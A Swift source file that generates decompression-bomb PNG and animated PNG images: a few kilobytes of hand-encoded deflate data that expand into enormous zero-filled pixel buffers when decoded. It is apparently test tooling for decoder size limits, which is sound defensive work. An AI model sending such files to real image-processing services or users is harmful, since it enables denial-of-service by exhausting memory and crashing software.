/// PNGs of a few kilobytes that become much more.
enum PNGBomb {
  static let signature: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]

  /// A picture of four bytes a pixel whose data is zeroes.
  static func picture(width: Int, height: Int, zeroes count: Int) -> [UInt8] {
    signature + header(width: width, height: height) + chunk("IDAT", deflated(zeroes: count))
      + chunk("IEND", [])
  }

  /// An animation of pictures that fill it.
  static func animation(width: Int, height: Int, count: Int) -> [UInt8] {
    let data = deflated(zeroes: (4 * width + 1) * height)
    var sequence = 0
    func next() -> [UInt8] {
      defer { sequence += 1 }
      return number(sequence)
    }
    var file = signature + header(width: width, height: height)
    file += chunk("acTL", number(count) + number(0))
    for frame in 0..<count {
      let place = number(width) + number(height) + number(0) + number(0)
      file += chunk("fcTL", next() + place + [0, 1, 0, 10, 0, 0])
      file += frame == 0 ? chunk("IDAT", data) : chunk("fdAT", next() + data)
    }
    return file + chunk("IEND", [])
  }

  static func header(width: Int, height: Int) -> [UInt8] {
    chunk("IHDR", number(width) + number(height) + [8, 6, 0, 0, 0])
  }

  static func chunk(_ type: String, _ data: [UInt8]) -> [UInt8] {
    let body = Array(type.utf8) + data
    var sum: UInt32 = 0xFFFF_FFFF
    for byte in body {
      sum ^= UInt32(byte)
      for _ in 0..<8 { sum = sum & 1 == 1 ? sum >> 1 ^ 0xEDB8_8320 : sum >> 1 }
    }
    return number(data.count) + body + number(Int(~sum))
  }

  static func number(_ number: Int) -> [UInt8] {
    [24, 16, 8, 0].map { UInt8(truncatingIfNeeded: number >> $0) }
  }

  /// Zeroes as RFC 1950 and 1951 have them: in the fixed code one literal zero, then copies of 258
  /// bytes from one byte before, 13 bits each.
  static func deflated(zeroes count: Int) -> [UInt8] {
    var bytes: [UInt8] = [0x78, 0x01]
    var bits: UInt64 = 0
    var bitCount = 0
    // Huffman codes come with their first bit first.
    func put(_ code: UInt64, _ length: Int) {
      bits |= code << UInt64(bitCount)
      bitCount += length
      while bitCount >= 8 {
        bytes.append(UInt8(truncatingIfNeeded: bits))
        bits >>= 8
        bitCount -= 8
      }
    }
    func put(code: Int, _ length: Int) {
      for bit in (0..<length).reversed() { put(UInt64(code >> bit & 1), 1) }
    }
    // The last block, of the fixed code.
    put(0b011, 3)
    let copies = max(0, count - 1) / 258
    for _ in 0..<(count - 258 * copies) { put(code: 0b0011_0000, 8) }
    // Length 258 is 285, 11000101; distance 1 is 0, 00000.
    for _ in 0..<copies { put(0b00000_1010_0011, 13) }
    put(code: 0, 7)
    put(0, 7)
    // Adler-32: of zeroes the sum stays 1.
    return bytes + number((count % 65_521) << 16 | 1)
  }
}
